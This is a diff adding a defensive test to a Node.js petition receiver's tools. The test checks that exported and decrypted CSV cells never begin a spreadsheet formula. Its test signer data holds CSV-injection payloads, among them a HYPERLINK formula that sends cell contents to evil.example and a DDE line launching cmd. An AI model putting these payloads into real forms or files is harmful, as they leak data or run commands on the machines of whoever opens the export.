@@ -5,7 +5,7 @@ import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:net';
 import { join } from 'node:path';
 import { describe, it } from 'node:test';
-import { TOKEN, embeddedDataDir, exportRows, keyPair, lib, receiverDir, sign, tempDir } from './helpers.mjs';
+import { TOKEN, embeddedDataDir, exportRows, keyPair, lib, receiverDir, sign, spreadsheetCells, tempDir } from './helpers.mjs';
 
 const tools = join(receiverDir, 'dist/tools.js');
 const main = join(receiverDir, 'dist/main.js');
@@ -89,6 +89,56 @@ describe('NGO tools', () => {
       assert.equal(wrong.status, 2);
       assert.match(wrong.stderr, /2 row\(s\) could not be opened/);
       assert.equal((await exportRows(r.url)).length, 2);
+    } finally {
+      await r.close();
+    }
+  });
+
+  it('decrypt and export: no cell starts a formula, whether a spreadsheet splits them at commas, semicolons or tabs', async () => {
+    const dir = tempDir();
+    assert.equal(run(tools, ['keygen', '--out', 'k.json'], { env: { ...process.env, INIT_CWD: dir } }).status, 0);
+    const key = JSON.parse(readFileSync(join(dir, 'k.json'), 'utf8'));
+    const r = await lib.startReceiver({ port: 0, publicKey: key.public_key, token: TOKEN, dataDir: await embeddedDataDir(), log: () => {} });
+    try {
+      // Harmless in a comma-separated reading (one cell each, starting with a letter); split at ";" (the separator
+      // of many European locales) or at a tab, each would start a cell with a formula.
+      const a = await sign(r.url, 'json', {
+        signer: {
+          given_name: 'Anna;=HYPERLINK("http://evil.example/?"&A1,"Open")',
+          family_name: "Okoro;=cmd|' /C calc'!A0",
+          email: 'anna@example.org',
+          postal_code: 'EC1;@SUM(1+1)',
+        },
+        consent: { given: true, text: 'I agree;+1+1' },
+        tags: ['campaign', '-2+3'],
+        source_code: 'news;-letter',
+      });
+      assert.equal(a.status, 201);
+      const exported = await (await fetch(`${r.url}/export`, { headers: { authorization: `Bearer ${TOKEN}` } })).text();
+      writeFileSync(join(dir, 'export.csv'), exported);
+      const out = run(tools, ['decrypt', '--key', 'k.json', 'export.csv'], { env: { ...process.env, INIT_CWD: dir } });
+      assert.equal(out.status, 0, out.stderr);
+      for (const [name, csv] of [
+        ['export', exported],
+        ['decrypted', out.stdout],
+      ]) {
+        for (const separator of [',', ';', '\t']) {
+          const formulas = spreadsheetCells(csv, separator)
+            .filter((cell) => /^[=+\-@\t\r\n]/.test(cell))
+            .map((cell) => cell.slice(0, 40));
+          assert.deepEqual(formulas, [], `${name}, read with ${JSON.stringify(separator)} as the separator`);
+        }
+      }
+      // Read as the comma-separated file it is, each value is whole, the apostrophe showing where a cell could have begun.
+      const [header, ...rows] = lib.parseCsv(out.stdout);
+      const row = Object.fromEntries(header.map((column, i) => [column, rows.find((cells) => cells[1] === a.id)[i]]));
+      assert.equal(row.given_name, `Anna;'=HYPERLINK("http://evil.example/?"&A1,"Open")`);
+      assert.equal(row.family_name, `Okoro;'=cmd|' /C calc'!A0`);
+      assert.equal(row.postal_code, `EC1;'@SUM(1+1)`);
+      assert.equal(row.consent_text, `I agree;'+1+1`);
+      assert.equal(row.tags, `campaign,'-2+3`);
+      assert.equal(row.source_code, `news;'-letter`);
+      assert.equal(row.email, 'anna@example.org');
     } finally {
       await r.close();
     }
